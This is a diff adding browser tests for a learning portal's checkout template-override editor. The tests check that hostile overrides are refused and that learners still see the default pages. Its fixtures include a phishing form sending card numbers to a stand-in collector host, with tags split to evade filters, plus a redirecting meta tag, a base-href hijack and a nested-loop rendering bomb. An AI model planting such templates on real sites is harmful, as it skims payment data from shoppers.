@@ -195,3 +195,104 @@ def test_a_broken_override_falls_back_to_the_default_page(portal, new_page):
     expect(row).to_contain_text("1 failed render(s)")
     expect(row).to_contain_text("renamed_field")
     shot(page, "fallback-console")
+
+
+# --- hostile overrides (issue 23): refused in the editor; published behind its back, a learner
+# still pays -----------------------------------------------------------------------------------
+
+COLLECTOR = "http://127.0.0.2:5699/collect"
+HOSTILE_REVIEW = (
+    '{% extends "default:review.html" %}\n'
+    "{% block content %}<h1>Big sale!</h1>\n"
+    f'<fo{{##}}rm action="{COLLECTOR}" method="post"><label>Card number '
+    '<in{##}put name="card"></label><button>Pay now</button></form>\n'
+    '<me{##}ta http-equiv="refresh" content="5;url=https://example.com/">\n'
+    "{% endblock %}\n"
+)
+HOSTILE_BASE = (
+    '{% extends "default:base.html" %}{% block footer %}'
+    '<{% raw %}base{% endraw %} href="http://127.0.0.2:5699/">'
+    "{% for i in range(100) %}{% for j in range(100) %}{% for k in range(100) %}"
+    "{% endfor %}{% endfor %}{% endfor %}{% endblock %}"
+)
+BLOCKS_AROUND = (
+    '{% extends "default:review.html" %}\n'
+    "{% block heading %}<h1>Big sale!</h1>{% endblock %}\n"
+    '{% block before_checkout %}<p class="intro">Ends <strong>Friday</strong>.</p>'
+    "{% endblock %}\n"
+)
+
+
+def publish_behind_the_consoles_back(server, name: str, source: str, version: int = 50) -> None:
+    from portal.branding import cache
+    from portal.db import db
+
+    with server.app.app_context(), db.transaction() as session:
+        session.add(
+            TemplateOverride(
+                template_name=name,
+                version=version,
+                source=source,
+                author="intruder@example.com",
+                published=True,
+            )
+        )
+    cache.forget()
+
+
+def test_hostile_overrides_are_refused_and_a_learner_still_pays(portal, new_page):
+    server = portal(BRANDING_CACHE_SECONDS="0")
+    page = new_page(DESKTOP)
+    sign_in_marketer(page, server)
+
+    # The editor refuses the hostile page, says why beside the version, and never shows it.
+    page.get_by_role("link", name="review.html", exact=True).click()
+    page.get_by_label("Override source").fill(HOSTILE_REVIEW)
+    page.get_by_role("button", name="Check and save as a new version").click()
+    problems = page.locator("ul.problems")
+    expect(problems).to_contain_text("forms come only from the locked checkout parts")
+    expect(problems).to_contain_text("the Pay, Try again and Cancel forms")
+    shot(page, "refused-editor")
+    page.get_by_role("button", name="Publish version 1").click()
+    expect(page.get_by_role("alert").first).to_contain_text("cannot be published")
+    shot(page, "refused-publish")
+    page.get_by_role("link", name="Review: open, promo code, quantity 2").click()
+    expect(page.get_by_role("heading", name="Preview failed")).to_be_visible()
+    expect(page.locator("ul.problems")).to_contain_text("<meta")
+    assert COLLECTOR not in page.content()
+    shot(page, "refused-preview")
+    page.go_back()
+
+    # Blocks around the essentials publish, and a learner sees them.
+    page.get_by_label("Override source").fill(BLOCKS_AROUND)
+    page.get_by_role("button", name="Check and save as a new version").click()
+    expect(page.get_by_role("status").first).to_contain_text("Version 2 saved and checked")
+    page.get_by_role("button", name="Publish version 2").click()
+    expect(page.get_by_role("status").first).to_contain_text("Version 2 of review.html is live")
+    learner = review_page(new_page, server)
+    expect(learner.get_by_role("heading", level=1)).to_have_text("Big sale!")
+    expect(learner.locator(".intro")).to_contain_text("Ends Friday.")
+    shot(learner, "blocks-around-live")
+
+    # The hostile versions, made live behind the console's back: learners get the default.
+    publish_behind_the_consoles_back(server, "review.html", HOSTILE_REVIEW)
+    publish_behind_the_consoles_back(server, "base.html", HOSTILE_BASE)
+    collected = []
+    learner = new_page(DESKTOP)
+    learner.on("request", lambda r: "127.0.0.2" in r.url and collected.append(r.url))
+    learner.goto(f"{server.url}/skilljar/checkout?purchase_id={seed_purchase(server)}")
+    expect(learner.get_by_role("heading", level=1)).to_have_text("Review your order")
+    assert learner.locator("form[action*='127.0.0.2']").count() == 0
+    assert learner.locator("meta[http-equiv]").count() == 0
+    shot(learner, "hostile-fallback-review")
+    learner.get_by_role("button", name=re.compile("^Pay ")).click()
+    learner.wait_for_url(re.compile(r"/sandbox/stripe/pay/cs_[A-Za-z0-9_]+$"))
+    learner.get_by_label("Card number").fill("4242 4242 4242 4242")
+    learner.get_by_label("Expiry").fill(shared.EXPIRY)
+    learner.get_by_label("CVC").fill("123")
+    learner.get_by_label("Name on card").fill("Ada Lovelace")
+    learner.get_by_role("button", name="Pay", exact=True).click()
+    learner.wait_for_url(shared.THANK_YOU_URL)
+    expect(learner.locator("#purchase-state")).to_have_text("SUCCESS")
+    assert collected == []
+    assert learner.problems == []
